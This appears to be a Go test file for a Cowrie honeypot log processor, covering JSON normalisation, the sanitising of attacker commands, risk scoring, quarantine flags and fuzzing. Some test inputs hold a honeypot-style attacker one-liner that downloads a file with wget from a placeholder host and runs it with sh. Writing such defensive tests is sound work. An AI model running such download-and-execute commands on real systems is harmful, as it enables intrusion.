package cowrieprocessor

import (
	"encoding/json"
	"strings"
	"testing"
)

// The wanted texts are what Python's json wrote.
func TestPayload(t *testing.T) {
	const command = `"input_safe": "cd /tmp [PIPE] [PIPE] cd /run [SC] wget [URL]a.test/x [AND] sh x", ` +
		`"input_hash": "b131f425575eaf7b9cfda40d7e93dcd6aa36d650543b9615c0892cb9d44053d9"`
	for _, c := range []struct{ line, want string }{
		{"", ""},
		{" \t\r\n\x1c", ""},
		{`{"b":1,"a":{"d":[1.50,2],"c":"\u00E9"}}`, `{"b": 1, "a": {"d": [1.5, 2], "c": "\u00e9"}}`},
		{`  { "a" : [ ] , "b" : { } } `, `{"a": [], "b": {}}`},
		{`{"f":[1.0,1e5,1e16,1E-5,0.0001,-0.0,-0,1e400,12345678901234567890,3.00,0.1e1]}`,
			`{"f": [1.0, 100000.0, 1e+16, 1e-05, 0.0001, -0.0, 0, Infinity, 12345678901234567890, 3.0, 1.0]}`},
		{"{\"s\":\"\\u0041\\/\\u00e9é😀\\ud83d\\ude00\\uD83D\x7f\"}",
			`{"s": "A/\u00e9\u00e9\ud83d\ude00\ud83d\ude00\ud83d\u007f"}`},
		{`{"s":"\u0000\u000A\b\"\\"}`, `{"s": "\u0000\n\b\"\\"}`},
		{"{\"s\":\"\xff\"}", `{"s": "\ufffd"}`},
		{`{"a":1,"b":2,"\u0061":3}`, `{"a": 3, "b": 2}`},
		{`{"n":[NaN,-Infinity,true,null]}`, `{"n": [NaN, -Infinity, true, null]}`},

		{`{"input":"cd /tmp || cd /run; wget http://a.test/x && sh  x","message":"m"}`,
			`{"input": null, "message": "m", ` + command + `, "command": null}`},
		{`{"command":"cd /tmp || cd /run; wget http://a.test/x && sh  x"}`,
			`{"command": null, ` + command + `, "input": null}`},
		{`{"input":""}`, `{"input": ""}`},
		{`{"input":7,"command":"ls"}`, `{"input": 7, "command": "ls"}`},

		{`{"eventid":"cowrie.ses`, `{"malformed": "{\"eventid\":\"cowrie.ses"}`},
		{`{"a":1}{"b":2}`, `{"malformed": "{\"a\":1}{\"b\":2}"}`},
		{"{\"a\":\"\x01\"}", `{"malformed": "{\"a\":\"\u0001\"}"}`},
		{`{"a":01}`, `{"malformed": "{\"a\":01}"}`},
		{`{'a':1}`, `{"malformed": "{'a':1}"}`},
		{"\ufeff{}", `{"malformed": "\ufeff{}"}`},
		{`[1]`, `{}`},
		{`"text"`, `{}`},
	} {
		if got := string(Payload([]byte(c.line))); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
		}
	}
	deep := `{"a":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + "}"
	if got := string(Payload([]byte(deep))); !strings.HasPrefix(got, `{"malformed"`) {
		t.Errorf("nested too deeply: %.100s", got)
	}
}

func TestEvent(t *testing.T) {
	for _, c := range []struct {
		line        string
		risk        int
		quarantined bool
		when        string
	}{
		{`{"eventid":"cowrie.session.connect","timestamp":"2026-01-02T03:04:05.678901Z"}`, 0, false, "2026-01-02 03:04:05.678901"},
		{`{"eventid":"cowrie.session.connect","timestamp":"2026-01-02T03:04:05Z"}`, 0, false, "2026-01-02 03:04:05.000000"},
		{`{"eventid":"cowrie.session.connect","timestamp":"2026-01-02T03:04:05.5+0200"}`, 0, false, "2026-01-02 03:04:05.500000"},
		{`{"eventid":"cowrie.session.connect","time":"2026-01-02 03:04:05"}`, 0, false, "2026-01-02 03:04:05.000000"},
		{`{"eventid":"cowrie.session.connect","timestamp":1767323045}`, 0, false, "2026-01-02 03:04:05.000000"},
		{`{"eventid":"cowrie.session.connect","timestamp":"soon"}`, 0, false, ""},
		{`{"eventid":"cowrie.session.connect"}`, 0, true, ""},
		{`{"timestamp":"2026-01-02T03:04:05Z"}`, 0, true, "2026-01-02 03:04:05.000000"},
		{`{"eventid":"cowrie.command.input","timestamp":"x","input":""}`, 20, false, ""},
		{`{"eventid":"cowrie.command.input","timestamp":"x","input":"ls"}`, 20, false, ""},
		{`{"eventid":"cowrie.command.input","timestamp":"x","input":"ls; w"}`, 45, false, ""},
		{`{"eventid":"cowrie.command.failed","timestamp":"x","input":"SHutdown"}`, 60, false, ""},
		{`{"eventid":"cowrie.command.input","timestamp":"x","input":"sh; w"}`, 85, true, ""},
		{`{"eventid":"cowrie.session.file_download","timestamp":"x"}`, 30, false, ""},
		{`{"eventid":"cowrie.session.file_download","timestamp":"x","input":"sh /tmp/a"}`, 95, true, ""},
		{`{"eventid":"cowrie.session.file_upload","timestamp":"x"}`, 0, false, ""},
		{`[]`, 0, true, ""},
	} {
		var r eventReader
		e, ok := r.read([]byte(c.line))
		if !ok || e.risk != c.risk || e.quarantined != c.quarantined || e.when.text != c.when {
			t.Errorf("%s: risk %d, quarantined %v, at %q", c.line, e.risk, e.quarantined, e.when.text)
		}
	}
	var r eventReader
	e, _ := r.read([]byte(`{"b":1,"a":{"d":[1.50,2],"c":"\u00E9"},"eventid":"x"}`))
	if want := "ede37f508f73f55c6d78f770f3d18559ec31bad6e00f75919f6e6addb98b4a45"; string(e.hash) != want {
		t.Errorf("the hash is %s, want %s", e.hash, want)
	}
}

func FuzzPayload(f *testing.F) {
	f.Add([]byte(`{"a":[1.5,"\ud800",null],"input":"x;y"}`))
	f.Add([]byte(`{"\u00e9":{"b":-0},"c":1e400}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		var r eventReader
		e, ok := r.read(line)
		if !ok {
			return
		}
		// Whatever comes in, an object of ASCII goes out, which is itself when
		// it is read again.
		for _, c := range e.payload {
			if c < ' ' || c > '~' {
				t.Fatalf("%q is not ASCII", e.payload)
			}
		}
		v, ok := r.reader.read([]byte(string(e.payload)))
		if again := appendValue(nil, v, ", ", ": "); !ok || string(again) != string(e.payload) {
			t.Fatalf("%s became %s", e.payload, again)
		}
		if s := string(e.payload); !strings.Contains(s, "NaN") && !strings.Contains(s, "Infinity") && !json.Valid(e.payload) {
			t.Fatalf("%s is not JSON", s)
		}
	})
}
